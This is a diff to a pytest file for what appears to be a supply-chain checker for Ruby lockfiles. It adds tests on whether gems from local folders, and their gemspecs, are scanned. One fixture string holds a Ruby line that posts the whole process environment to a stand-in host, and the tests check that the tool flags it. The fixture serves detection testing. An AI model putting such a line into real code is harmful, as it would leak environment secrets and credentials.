@@ -152,23 +152,56 @@ def test_a_source_that_nobody_configured_is_not_asked(machine: Machine, private:
     assert [] == private.requests == machine.registry.requests
 
 
-def test_gems_from_git_and_from_folders_are_named_and_not_judged(machine: Machine) -> None:
+def test_gems_from_git_are_named_and_not_judged(machine: Machine) -> None:
     git = (
         "GIT\n  remote: https://git.example/fork.git\n  revision: "
         + "a" * 40
         + "\n  specs:\n    fork (3.0)\n\n"
     )
-    path = "PATH\n  remote: engines/own\n  specs:\n    own (1.0)\n\n"
-    machine.write("engines/own/own.gemspec", "")
-    lock(machine, git, path, gems(machine.registry.gem_url, "tail (2.5.0)"))
+    lock(machine, git, gems(machine.registry.gem_url, "tail (2.5.0)"))
     ran = machine.run("check", "--format", "json", *LINUX)
     assert 3 == ran.code
-    coverage = ran.json["coverage"]
-    assert ["pkg:gem/own@1.0"] == [item["purl"] for item in coverage["out_of_scope"]]
-    (unjudged,) = coverage["not_judged"]
+    (unjudged,) = ran.json["coverage"]["not_judged"]
     assert "pkg:gem/fork@3.0" == unjudged["purl"]
     assert "git repository" in unjudged["why"]
     assert ["pkg:gem/tail@2.5.0"] == [package["purl"] for package in ran.json["packages"]]
+
+
+OWN = "PATH\n  remote: engines/own\n  specs:\n    own (1.0)\n\n"
+SPEC = 'Gem::Specification.new do |s|\n  s.name = "own"\n  s.version = "1.0"\nend\n'
+SENDS = 'require "net/http"\nNet::HTTP.post(URI("https://collect.invalid/x"), ENV.to_h.to_s)\n'
+
+
+def test_a_folder_of_the_repository_is_judged_and_its_gemspec_too(machine: Machine) -> None:
+    machine.write("engines/own/own.gemspec", SPEC)
+    machine.write("engines/own/lib/own.rb", "VALUE = 1\n")
+    lock(machine, OWN, gems(machine.registry.gem_url, "tail (2.5.0)"))
+    ran = machine.run("check", "--format", "json", "--as", "new", *LINUX)
+    assert 0 == ran.code, ran.out
+    assert ["pkg:gem/own@1.0", "pkg:gem/tail@2.5.0"] == [package["purl"] for package in ran.json["packages"]]
+    assert [] == ran.json["coverage"]["out_of_scope"]
+    for path, text in {"own.gemspec": SENDS + SPEC, "lib/own.rb": SENDS}.items():
+        machine.write(f"engines/own/{path}", text)
+        ran = machine.run("check", "--as", "new", *LINUX)
+        assert 1 == ran.code, ran.out
+        assert f"{path}:2" in ran.out
+
+
+def test_in_the_full_check_a_folder_is_in_use_already(machine: Machine) -> None:
+    machine.write("engines/own/own.gemspec", SPEC)
+    machine.write("engines/own/lib/own.rb", SENDS)
+    lock(machine, OWN, gems(machine.registry.gem_url, "tail (2.5.0)"))
+    assert 0 == machine.run("check", *LINUX).code
+
+
+@pytest.mark.parametrize("remote", [".", "..", "../.."])
+def test_the_project_s_own_gemspec_is_out_of_scope(machine: Machine, remote: str) -> None:
+    machine.write(".git/HEAD", "")
+    machine.write("own.gemspec", SENDS + SPEC)
+    text = OWN.replace("engines/own", remote) + gems(machine.registry.gem_url, "tail (2.5.0)")
+    machine.write("a/b/Gemfile.lock", f"{text}PLATFORMS\n  ruby\n\nDEPENDENCIES\n  own!\n  tail\n")
+    ran = machine.run("check", "--format", "json", "--as", "new", *LINUX)
+    assert ["pkg:gem/own@1.0"] == [item["purl"] for item in ran.json["coverage"]["out_of_scope"]]
 
 
 bundle = shutil.which("bundle")
